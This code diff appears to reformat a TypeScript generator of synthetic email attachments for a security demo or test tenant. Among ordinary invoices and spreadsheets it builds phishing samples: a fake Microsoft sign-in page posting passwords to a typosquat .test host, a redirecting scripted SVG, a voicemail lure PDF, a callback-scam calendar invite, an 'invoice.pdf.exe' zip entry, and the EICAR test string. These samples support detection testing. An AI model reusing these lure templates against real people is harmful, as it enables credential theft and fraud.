@@ -39,29 +39,57 @@ export type Variant = {
 };
 
 /** The industry's harmless test string, put together here so that no file of ours holds it whole. */
-const eicar = (): Uint8Array => Buffer.from(['X5O!P%@AP[4\\PZX54(P^)7CC)7}', '$EICAR-STANDARD-', 'ANTIVIRUS-TEST-FILE!', '$H+H*'].join(''), 'latin1');
+const eicar = (): Uint8Array =>
+  Buffer.from(
+    ['X5O!P%@AP[4\\PZX54(P^)7CC)7}', '$EICAR-STANDARD-', 'ANTIVIRUS-TEST-FILE!', '$H+H*'].join(''),
+    'latin1',
+  );
 
 const text = (value: string): Uint8Array => Buffer.from(value, 'utf8');
-const TOPICS = ['budget', 'travel', 'roadmap', 'onboarding', 'supplier list', 'site visit', 'contract', 'forecast'] as const;
-const money = (random: Random): string => `${random.int(80, 9800)}.${String(random.int(0, 99)).padStart(2, '0')}`;
+const TOPICS = [
+  'budget',
+  'travel',
+  'roadmap',
+  'onboarding',
+  'supplier list',
+  'site visit',
+  'contract',
+  'forecast',
+] as const;
+const money = (random: Random): string =>
+  `${random.int(80, 9800)}.${String(random.int(0, 99)).padStart(2, '0')}`;
 
 /** The password of a locked zip: the mail's body tells it, as such mails do. */
-export const zipPasswordOf = (variant: number): string => String(createRandom(0, 'zip password', variant).int(1000, 9999));
+export const zipPasswordOf = (variant: number): string =>
+  String(createRandom(0, 'zip password', variant).int(1000, 9999));
 
-const lureHtml = (random: Random): string => `<!doctype html><html><head><title>Sign in</title><style>body{font-family:sans-serif;background:#f2f2f2}
+const lureHtml = (
+  random: Random,
+): string => `<!doctype html><html><head><title>Sign in</title><style>body{font-family:sans-serif;background:#f2f2f2}
 form{width:320px;margin:80px auto;background:#fff;padding:32px}</style></head><body onload="document.forms[0].p.focus()">
 <form action="https://rnicrosoft-login.test/post/${random.hex(8)}" method="post"><h2>Verify your account</h2>
 <input name="u" value="someone@contoso.example"><input name="p" type="password" placeholder="Password"><button>Sign in</button></form>
 <script>var a="${Buffer.from(`https://rnicrosoft-login.test/${random.hex(6)}`).toString('base64')}";console.log(atob(a).length)</script></body></html>`;
 
-const scriptedSvg = (random: Random): string => `<svg xmlns="http://www.w3.org/2000/svg" width="480" height="120" onload="go()">
+const scriptedSvg = (
+  random: Random,
+): string => `<svg xmlns="http://www.w3.org/2000/svg" width="480" height="120" onload="go()">
 <rect width="480" height="120" fill="#0b5cad"/><text x="24" y="70" fill="#fff" font-size="24">Loading secure document ${random.hex(4)}</text>
 <script><![CDATA[function go(){var k="${random.hex(12)}";window.location.href="https://docusign-review.test/"+k}]]></script></svg>`;
 
-type Maker = { readonly count: number; readonly mime_type: string; readonly extension: string; readonly make: (random: Random, variant: number) => Uint8Array };
+type Maker = {
+  readonly count: number;
+  readonly mime_type: string;
+  readonly extension: string;
+  readonly make: (random: Random, variant: number) => Uint8Array;
+};
 
 const OFFICE = 'application/vnd.openxmlformats-officedocument.';
-const notes = (random: Random): string[] => [`Notes on ${random.pick(TOPICS)}`, `Reference ${random.hex(8)}`, 'Draft, for internal use.'];
+const notes = (random: Random): string[] => [
+  `Notes on ${random.pick(TOPICS)}`,
+  `Reference ${random.hex(8)}`,
+  'Draft, for internal use.',
+];
 const sheet = (random: Random): (string | number)[][] => [
   ['Item', 'Quantity', 'Amount'],
   ...Array.from({ length: 8 }, () => [random.pick(TOPICS), random.int(1, 40), Number(money(random))]),
@@ -70,34 +98,107 @@ const sheet = (random: Random): (string | number)[][] => [
 ];
 
 const MAKERS: Readonly<Record<AttachmentKind, Maker>> = {
-  pdf: { count: 24, mime_type: 'application/pdf', extension: 'pdf', make: (r) => pdfOf([`Invoice ${r.int(1000, 9999)}`, `Total due: ${money(r)} EUR`, 'Payable within 30 days.']) },
+  pdf: {
+    count: 24,
+    mime_type: 'application/pdf',
+    extension: 'pdf',
+    make: (r) =>
+      pdfOf([`Invoice ${r.int(1000, 9999)}`, `Total due: ${money(r)} EUR`, 'Payable within 30 days.']),
+  },
   lure_pdf: {
     count: 16,
     mime_type: 'application/pdf',
     extension: 'pdf',
-    make: (r) => pdfOf(['You have 1 new voice message', `Caller: +1 555 01${r.int(10, 99)}`, 'Click anywhere to listen.'], `https://rnicrosoft-login.test/vm/${r.hex(8)}`),
+    make: (r) =>
+      pdfOf(
+        ['You have 1 new voice message', `Caller: +1 555 01${r.int(10, 99)}`, 'Click anywhere to listen.'],
+        `https://rnicrosoft-login.test/vm/${r.hex(8)}`,
+      ),
   },
-  docx: { count: 16, mime_type: `${OFFICE}wordprocessingml.document`, extension: 'docx', make: (r) => docxOf(notes(r)) },
-  xlsx: { count: 16, mime_type: `${OFFICE}spreadsheetml.sheet`, extension: 'xlsx', make: (r) => xlsxOf(sheet(r)) },
+  docx: {
+    count: 16,
+    mime_type: `${OFFICE}wordprocessingml.document`,
+    extension: 'docx',
+    make: (r) => docxOf(notes(r)),
+  },
+  xlsx: {
+    count: 16,
+    mime_type: `${OFFICE}spreadsheetml.sheet`,
+    extension: 'xlsx',
+    make: (r) => xlsxOf(sheet(r)),
+  },
   chart: { count: 8, mime_type: 'image/png', extension: 'png', make: (_, v) => chartPicture(v) },
   qr: { count: 12, mime_type: 'image/png', extension: 'png', make: (_, v) => qrPicture(v) },
   svg: { count: 8, mime_type: 'image/svg+xml', extension: 'svg', make: (r) => text(scriptedSvg(r)) },
   html: { count: 8, mime_type: 'text/html', extension: 'html', make: (r) => text(lureHtml(r)) },
-  csv: { count: 12, mime_type: 'text/csv', extension: 'csv', make: (r) => text(sheet(r).map((row) => row.join(',')).join('\r\n')) },
-  txt: { count: 12, mime_type: 'text/plain', extension: 'txt', make: (r) => text(`${notes(r).join('\n')}\n`) },
-  ics: { count: 8, mime_type: 'text/calendar', extension: 'ics', make: (r) => icsOf(r.hex(16), `Meeting: ${r.pick(TOPICS)}`, 'Agenda to follow.', 'organizer@contoso.example') },
+  csv: {
+    count: 12,
+    mime_type: 'text/csv',
+    extension: 'csv',
+    make: (r) =>
+      text(
+        sheet(r)
+          .map((row) => row.join(','))
+          .join('\r\n'),
+      ),
+  },
+  txt: {
+    count: 12,
+    mime_type: 'text/plain',
+    extension: 'txt',
+    make: (r) => text(`${notes(r).join('\n')}\n`),
+  },
+  ics: {
+    count: 8,
+    mime_type: 'text/calendar',
+    extension: 'ics',
+    make: (r) =>
+      icsOf(r.hex(16), `Meeting: ${r.pick(TOPICS)}`, 'Agenda to follow.', 'organizer@contoso.example'),
+  },
   callback_ics: {
     count: 8,
     mime_type: 'text/calendar',
     extension: 'ics',
-    make: (r) => icsOf(r.hex(16), `Your subscription renews today (${money(r)} USD)`, `To cancel call +1 555 01${r.int(10, 99)}\nHave your order number ${r.hex(6)} ready.`, 'billing@paypa1-billing.test'),
+    make: (r) =>
+      icsOf(
+        r.hex(16),
+        `Your subscription renews today (${money(r)} USD)`,
+        `To cancel call +1 555 01${r.int(10, 99)}\nHave your order number ${r.hex(6)} ready.`,
+        'billing@paypa1-billing.test',
+      ),
   },
-  eml: { count: 6, mime_type: 'message/rfc822', extension: 'eml', make: (r) => emlOf('sender@fabrikam.example', `Fwd: ${r.pick(TOPICS)}`, notes(r).join('\r\n')) },
-  zip: { count: 8, mime_type: 'application/zip', extension: 'zip', make: (r) => zipOf([{ name: 'readme.txt', bytes: text(notes(r).join('\n')) }]) },
-  locked_zip: { count: 8, mime_type: 'application/zip', extension: 'zip', make: (r, v) => zipOf([{ name: 'statement.txt', bytes: text(notes(r).join('\n')) }], zipPasswordOf(v)) },
-  large: { count: 1, mime_type: 'application/zip', extension: 'zip', make: () => zipOf([{ name: 'site-photos.bin', bytes: Buffer.alloc(12 * 1024 * 1024, 'Postern demo tenant. ') }]) },
+  eml: {
+    count: 6,
+    mime_type: 'message/rfc822',
+    extension: 'eml',
+    make: (r) => emlOf('sender@fabrikam.example', `Fwd: ${r.pick(TOPICS)}`, notes(r).join('\r\n')),
+  },
+  zip: {
+    count: 8,
+    mime_type: 'application/zip',
+    extension: 'zip',
+    make: (r) => zipOf([{ name: 'readme.txt', bytes: text(notes(r).join('\n')) }]),
+  },
+  locked_zip: {
+    count: 8,
+    mime_type: 'application/zip',
+    extension: 'zip',
+    make: (r, v) => zipOf([{ name: 'statement.txt', bytes: text(notes(r).join('\n')) }], zipPasswordOf(v)),
+  },
+  large: {
+    count: 1,
+    mime_type: 'application/zip',
+    extension: 'zip',
+    make: () =>
+      zipOf([{ name: 'site-photos.bin', bytes: Buffer.alloc(12 * 1024 * 1024, 'Postern demo tenant. ') }]),
+  },
   eicar: { count: 1, mime_type: 'application/octet-stream', extension: 'com', make: eicar },
-  eicar_zip: { count: 2, mime_type: 'application/zip', extension: 'zip', make: (_, v) => zipOf([{ name: v === 0 ? 'eicar.com' : 'invoice.pdf.exe', bytes: eicar() }]) },
+  eicar_zip: {
+    count: 2,
+    mime_type: 'application/zip',
+    extension: 'zip',
+    make: (_, v) => zipOf([{ name: v === 0 ? 'eicar.com' : 'invoice.pdf.exe', bytes: eicar() }]),
+  },
 };
 
 const made = new Map<string, Variant>();
@@ -114,7 +215,14 @@ export const variantOf = (kind: AttachmentKind, variant: number): Variant => {
   if (known) return known;
   const bytes = maker.make(createRandom(0, kind, v), v);
   const hash = (algorithm: 'md5' | 'sha256'): string => createHash(algorithm).update(bytes).digest('hex');
-  const one = { kind, mime_type: maker.mime_type, extension: maker.extension, bytes, md5: hash('md5'), sha256: hash('sha256') };
+  const one = {
+    kind,
+    mime_type: maker.mime_type,
+    extension: maker.extension,
+    bytes,
+    md5: hash('md5'),
+    sha256: hash('sha256'),
+  };
   made.set(key, one);
   return one;
 };
